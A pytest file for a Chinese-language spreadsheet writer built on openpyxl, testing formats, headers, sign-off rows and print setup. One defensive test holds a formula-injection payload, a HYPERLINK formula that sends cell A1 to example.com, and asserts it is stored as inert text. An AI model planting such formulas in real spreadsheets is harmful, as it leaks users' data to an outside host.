"""The shared spreadsheet writer: data rows rendered below openpyxl's ``append`` must read back
exactly as openpyxl's own cell writer would have written them."""

from __future__ import annotations

import io
import math
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from openpyxl.utils.exceptions import IllegalCharacterError

from common import xlsx
from common.xlsx import Column, Sheet, write_workbook

COLUMNS = [
    Column("序号", 6, "0"),
    Column("名称", 30),
    Column("得分", 8, "0.0", group="考核"),
    Column("总分", 8, "0.0", group="考核"),
    Column("备注", 20),
]


def rows():
    return [
        [1, "官渡区文化馆", Decimal("8.0"), Decimal("7.5"), None],
        (2, "", Decimal("0.0"), 0.1, "   前后有空格  "),
        [3, "A & B < C > D", -1, 10**17, "第一行\r\n第二行\t制表"],
        [4, None, math.nan, math.inf, "=SUM(A1:A3)"],  # text that looks like a formula
        [5, "#N/A", Decimal("12.345678901234567"), 2.5, "末列"],
        [6, "日期", Decimal(1), 3, datetime(2026, 5, 10, 10, 30)],  # a date: openpyxl's own path
        [7, "多出的值", 1, 2, "x", "超出列数"],
        iter([8, "生成器的行", Decimal("99.9"), None, None]),
        [9, "x" * 40000, 1, 1, ""],
    ]


def write(data, monkeypatch=None, raw=True, buffer=None):
    if monkeypatch is not None:
        monkeypatch.setattr(xlsx, "LXML", raw)
    buffer = buffer or io.BytesIO()
    write_workbook(
        [
            Sheet("第一张", COLUMNS, data, ["标题"]),
            Sheet("第二张", COLUMNS[:2], [[n, f"馆{n}"] for n in range(1, 4)]),
        ],
        buffer,
    )
    buffer.seek(0)
    return load_workbook(buffer)


def cells(ws):
    return [
        [(c.value, c.data_type, c.number_format) for c in row]
        for row in ws.iter_rows(min_row=1, max_row=ws.max_row, max_col=ws.max_column)
    ]


def test_data_cells_carry_their_columns_number_formats():
    wb = write(rows())
    ws = wb["第一张"]
    assert ws["A1"].value == "标题" and ws["A1"].font.b
    assert [c.value for c in ws[2]][:5] == ["序号", "名称", "考核", None, "备注"]
    assert [c.value for c in ws[3]][:5] == [None, None, "得分", "总分", None]
    assert ws["C2"].font.b and ws["C2"].fill.fgColor.rgb == "00DDEBF7"
    assert {str(r) for r in ws.merged_cells.ranges} == {"A2:A3", "B2:B3", "C2:D2", "E2:E3"}
    assert ws.freeze_panes == "A4"
    assert ws.print_title_rows == "$2:$3"
    assert ws.column_dimensions["B"].width == 30

    first = ws[4]
    assert [c.value for c in first][:5] == [1, "官渡区文化馆", 8, 7.5, None]
    assert [c.number_format for c in first[:4]] == ["0", "General", "0.0", "0.0"]
    assert first[0].data_type == "n" and first[2].data_type == "n"
    assert ws["E5"].value == "   前后有空格  "
    assert ws["B6"].value == "A & B < C > D"
    assert ws["E6"].value == "第一行\r\n第二行\t制表"
    assert ws["D6"].value == 10**17
    assert (ws["E7"].value, ws["E7"].data_type) == ("=SUM(A1:A3)", "s")
    assert (ws["B8"].value, ws["B8"].data_type) == ("#N/A", "s")
    assert ws["E9"].value == datetime(2026, 5, 10, 10, 30)
    assert ws["F10"].value == "超出列数"
    assert [c.value for c in ws[11][:3]] == [8, "生成器的行", 99.9]
    assert ws["C11"].number_format == "0.0"
    assert len(ws["B12"].value) == 32767
    assert ws.max_row == 12
    assert list(wb["第二张"].iter_rows(min_row=2, values_only=True)) == [
        (1, "馆1"),
        (2, "馆2"),
        (3, "馆3"),
    ]


def sheet_xml(buffer: io.BytesIO) -> bytes:
    with zipfile.ZipFile(buffer) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


def test_rendered_rows_read_back_as_openpyxls_own(monkeypatch):
    rendered_file, by_openpyxl_file = io.BytesIO(), io.BytesIO()
    rendered = write(rows(), monkeypatch, raw=True, buffer=rendered_file)
    by_openpyxl = write(rows(), monkeypatch, raw=False, buffer=by_openpyxl_file)
    # Rendered rows are UTF-8; openpyxl's lxml writer puts character references.
    assert "官渡区文化馆".encode() in sheet_xml(rendered_file)
    assert "官渡区文化馆".encode() not in sheet_xml(by_openpyxl_file)
    for name in ("第一张", "第二张"):
        assert cells(rendered[name]) == cells(by_openpyxl[name])


@pytest.mark.parametrize("raw", [True, False])
def test_a_control_character_is_refused_as_before(monkeypatch, raw):
    with pytest.raises(IllegalCharacterError):
        write([[1, "坏\x01字符", 1, 1, None]], monkeypatch, raw=raw)


@pytest.mark.parametrize("raw", [True, False])
def test_text_that_looks_like_a_formula_stays_text(monkeypatch, raw):
    # A resident may type anything into a name; the sign-up list must not run it. The row with
    # a date goes through openpyxl's own cell writer, the other is rendered.
    evil = '=HYPERLINK("http://example.com/?"&A1,"点我")'
    wb = write(
        [
            [1, evil, 1, 1, "#DIV/0!"],
            [2, evil, 1, 1, datetime(2026, 5, 10, 10, 30)],
            [3, "=", 1, 1, "+1"],
        ],
        monkeypatch,
        raw=raw,
    )
    ws = wb["第一张"]
    assert [(c.value, c.data_type) for c in (ws["B4"], ws["E4"], ws["B5"], ws["B6"])] == [
        (evil, "s"),
        ("#DIV/0!", "s"),
        (evil, "s"),
        ("=", "s"),
    ]
    assert ws["E5"].value == datetime(2026, 5, 10, 10, 30)


@pytest.mark.parametrize("raw", [True, False])
def test_a_sign_off_row_sits_under_the_title_and_the_headers_stay_frozen(monkeypatch, raw):
    monkeypatch.setattr(xlsx, "LXML", raw)
    signoff = xlsx.SignOff(unit="官渡区文化馆", on=date(2025, 1, 9))
    buffer = io.BytesIO()
    write_workbook(
        [
            Sheet("分组", COLUMNS, [[1, "馆", 1, 2, ""]], ["标题"], signoff=signoff),
            Sheet("两列", COLUMNS[:2], [[1, "馆"]], signoff=xlsx.SignOff("", date(2025, 12, 31))),
        ],
        buffer,
    )
    buffer.seek(0)
    wb = load_workbook(buffer)
    ws = wb["分组"]
    assert ws["A1"].value == "标题"
    # 填报单位 at the left, a line for 负责人 in the middle, 填报日期 at the right edge.
    assert [c.value for c in ws[2]] == [
        "填报单位:官渡区文化馆", None, "负责人:____________", None, "填报日期:2025年1月9日",
    ]  # fmt: skip
    assert ws["E2"].alignment.horizontal == "right"
    assert [c.value for c in ws[3]][:3] == ["序号", "名称", "考核"]
    assert ws.freeze_panes == "A5"
    assert ws.print_title_rows == "$3:$4"
    assert [list(r) for r in ws.iter_rows(min_row=5, values_only=True)] == [[1, "馆", 1, 2, None]]

    narrow = wb["两列"]
    assert [c.value for c in narrow[1]] == [
        "填报单位:________________", "负责人:____________", "填报日期:2025年12月31日",
    ]  # fmt: skip
    assert narrow["A2"].value == "序号" and narrow.freeze_panes == "A3"


def test_every_sheet_prints_landscape_on_a4(monkeypatch):
    wb = write(rows(), monkeypatch)
    for ws in wb.worksheets:
        assert int(ws.page_setup.paperSize) == 9  # PAPERSIZE_A4
        assert ws.page_setup.orientation == "landscape"
